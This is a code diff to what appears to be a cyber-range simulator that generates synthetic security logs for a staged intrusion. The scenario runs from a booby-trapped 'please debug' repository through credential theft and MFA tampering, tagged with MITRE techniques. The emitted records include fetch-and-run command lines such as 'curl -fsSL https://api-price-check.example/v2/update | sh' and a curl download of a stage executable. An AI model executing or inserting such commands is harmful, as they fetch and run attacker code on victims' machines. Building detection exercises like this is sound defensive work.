@@ -17,12 +17,20 @@ from sekisho.range.layers_device import EXPLORER, connection, process, query
 from sekisho.range.layers_sign_in import entra_who, okta_who
 from sekisho.range.ledger import Act, Scene
 from sekisho.range.plan import Day, workdays
-from sekisho.range.shapes_endpoint import defender, defender_connection
+from sekisho.range.shapes_endpoint import defender, defender_connection, falcon, falcon_connection
 from sekisho.range.shapes_entra import signin
 from sekisho.range.shapes_lines import bind, squid
 from sekisho.range.shapes_okta import okta
 from sekisho.range.shapes_windows import SECURITY, SYSMON, winlogbeat
-from sekisho.range.world import INTRUDER_HOME, INTRUDER_VPN, TOKYO, VICTIM, World
+from sekisho.range.world import (
+    COLLEAGUE,
+    INTRUDER_HOME,
+    INTRUDER_VPN,
+    OFFICE_EGRESS,
+    TOKYO,
+    VICTIM,
+    World,
+)
 
 YOUNG_DOMAIN = "api-price-check.example"
 YOUNG_ADDRESS = "192.0.2.240"
@@ -30,7 +38,6 @@ REPO = "C:\\Users\\ryo.makino\\src\\price-feed-debug"
 NODE = "C:\\Program Files\\nodejs\\node.exe"
 CMD = "C:\\Windows\\System32\\cmd.exe"
 POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
-BASH = "C:\\Program Files\\Git\\usr\\bin\\bash.exe"
 CURL = "C:\\Windows\\System32\\curl.exe"
 STAGE = "C:\\Users\\ryo.makino\\AppData\\Local\\Temp\\.pf\\upd.exe"
 SESSION = "102VICTIMsession0000000001"
@@ -69,13 +76,13 @@ def attack(world: World, clock: Clock, scene: Scene) -> None:
         Act(
             "S02",
             Text(
-                ja="「不具合を直してほしい」というリポジトリを業務用PCで実行、node からシェルが起動",
-                en="The 'please debug' repository is run on the work PC; node starts a shell",
+                ja="「不具合を直してほしい」というリポジトリを業務用PCで実行、node がシェルを起動",
+                en="The 'please debug' code is run on the work PC; node starts a shell that fetches more",
             ),
             victim,
             ("T2.1", "T2.2", "T2.3"),
             ("T1204.002", "T1059"),
-            ("shell_from_repository",),
+            ("node-spawns-shell",),
         ),
         infection(world, clock),
     )
@@ -83,15 +90,15 @@ def attack(world: World, clock: Clock, scene: Scene) -> None:
         Act(
             "S03",
             Text(
-                ja="新しいドメインからスクリプトを取得しシェルへ渡す（curl | sh）",
-                en="A script is fetched from a young domain and piped into a shell (curl | sh)",
+                ja="相談された同僚も Mac で実行、スクリプトを取得してシェルへ渡す（curl | sh）",
+                en="A colleague who was asked for help runs it on a Mac: curl piped into a shell",
             ),
-            victim,
+            world.person(COLLEAGUE).uid,
             ("T2.3", "A1"),
             ("T1105", "T1059.004"),
-            ("curl_pipe_shell",),
+            ("curl-pipe-shell",),
         ),
-        download(world, clock),
+        colleague(world, clock),
     )
     scene.play(
         Act(
@@ -100,7 +107,7 @@ def attack(world: World, clock: Clock, scene: Scene) -> None:
             victim,
             ("T2.4",),
             ("T1059.001", "T1027"),
-            ("encoded_powershell",),
+            ("powershell-encoded",),
         ),
         powershell(world, clock),
     )
@@ -111,7 +118,7 @@ def attack(world: World, clock: Clock, scene: Scene) -> None:
             victim,
             ("T2.1",),
             ("T1053.005",),
-            ("scheduled_task",),
+            ("task-with-script-host",),
         ),
         persistence(world, clock),
     )
@@ -125,7 +132,7 @@ def attack(world: World, clock: Clock, scene: Scene) -> None:
             victim,
             ("T3.1",),
             ("T1555.003", "T1539"),
-            ("browser_credentials",),
+            ("browser-store-copied",),
         ),
         browser_store(world, clock),
     )
@@ -136,7 +143,7 @@ def attack(world: World, clock: Clock, scene: Scene) -> None:
             victim,
             ("T3.1",),
             ("T1003.001",),
-            ("lsass_access",),
+            ("lsass-access",),
         ),
         lsass(world, clock),
     )
@@ -163,7 +170,7 @@ def attack(world: World, clock: Clock, scene: Scene) -> None:
             victim,
             ("A2", "T3.1"),
             ("T1078.004",),
-            ("mfa_missing",),
+            ("mfa-missing",),
         ),
         no_factor(world, clock),
     )
@@ -177,7 +184,7 @@ def attack(world: World, clock: Clock, scene: Scene) -> None:
             victim,
             ("A2",),
             ("T1556.006", "T1098.005"),
-            ("mfa_factor_removed",),
+            ("mfa-factor-removed",),
         ),
         factor(world, clock),
     )
@@ -212,7 +219,8 @@ def infection(world: World, clock: Clock) -> Iterator[Emitted]:
     serve = f'"{NODE}" "{REPO}\\server.js"'
     yield _run(world, dice, run, NODE, serve, (CMD, "cmd.exe"))
     later = run + timedelta(seconds=4)
-    shell = f'{CMD} /d /s /c "whoami & hostname & ipconfig /all"'
+    url = f"https://{YOUNG_DOMAIN}/v2/update"
+    shell = f'{CMD} /d /s /c "curl.exe -fsS {url} -o {STAGE}"'
     yield _run(world, dice, later, CMD, shell, (NODE, serve))
     yield defender(
         dice,
@@ -230,24 +238,49 @@ def infection(world: World, clock: Clock) -> Iterator[Emitted]:
         InitiatingProcessCommandLine=serve,
         InitiatingProcessId=dice.randrange(1000, 30000),
     )
+    yield from _traffic(world, dice, later)
 
 
-def download(world: World, clock: Clock) -> Iterator[Emitted]:
-    dice, victim = Dice(world.seed, "story", "S03"), world.person(VICTIM)
-    at = clock.at(0, 14, 21, 47)
-    url = f"https://{YOUNG_DOMAIN}/v2/update"
-    yield bind(dice, at, victim.lan, YOUNG_DOMAIN)
-    yield _run(
-        world, dice, at, BASH, f'"{BASH}" -c "curl -fsSL {url} | sh"', (NODE, f'"{NODE}" "{REPO}\\server.js"')
-    )
+def _traffic(world: World, dice: Dice, start: datetime) -> Iterator[Emitted]:
+    """What the young domain is told: at once, and every now and then."""
+    victim = world.person(VICTIM)
+    yield bind(dice, start, victim.lan, YOUNG_DOMAIN)
     for later, image, name in ((1, CURL, "curl.exe"), (95, STAGE, "upd.exe"), (3700, STAGE, "upd.exe")):
-        moment = at + timedelta(seconds=later)
+        moment = start + timedelta(seconds=later)
         seen = query(dice, moment, victim, image, YOUNG_DOMAIN, YOUNG_ADDRESS)
         yield winlogbeat(dice, moment, victim.host, SYSMON, 22, seen)
-        open_ = connection(dice, moment, victim, image, YOUNG_ADDRESS, YOUNG_DOMAIN)
-        yield winlogbeat(dice, moment, victim.host, SYSMON, 3, open_)
+        opened = connection(dice, moment, victim, image, YOUNG_ADDRESS, YOUNG_DOMAIN)
+        yield winlogbeat(dice, moment, victim.host, SYSMON, 3, opened)
         yield defender_connection(dice, moment, victim, name, YOUNG_DOMAIN, YOUNG_ADDRESS, 443)
         yield squid(dice, moment, victim.lan, victim.login, YOUNG_DOMAIN)
+
+
+def colleague(world: World, clock: Clock) -> Iterator[Emitted]:
+    """On a Mac, seen by its EDR."""
+    dice, person = Dice(world.seed, "story", "S03"), world.person(COLLEAGUE)
+    at = clock.at(0, 14, 38, 20)
+    folder = f"/Users/{person.login}/src/price-feed-debug"
+    command = f'sh -c "curl -fsSL https://{YOUNG_DOMAIN}/v2/update | sh"'
+    for second, image, line, parent in (
+        (0, "/usr/local/bin/node", f"node {folder}/server.js", "zsh"),
+        (4, "/bin/sh", command, "node"),
+    ):
+        yield falcon(
+            dice,
+            at + timedelta(seconds=second),
+            person,
+            OFFICE_EGRESS,
+            "ProcessRollup2",
+            ImageFileName=image,
+            CommandLine=line,
+            ParentBaseFileName=parent,
+            UserName=person.login,
+            RawProcessId=str(dice.randrange(1000, 30000)),
+            SHA256HashData=Dice(1, "image", image).digits(64),
+        )
+    yield bind(dice, at + timedelta(seconds=4), person.lan, YOUNG_DOMAIN)
+    later = at + timedelta(seconds=5)
+    yield falcon_connection(dice, later, person, OFFICE_EGRESS, "curl", YOUNG_ADDRESS, 443)
 
 
 def powershell(world: World, clock: Clock) -> Iterator[Emitted]:
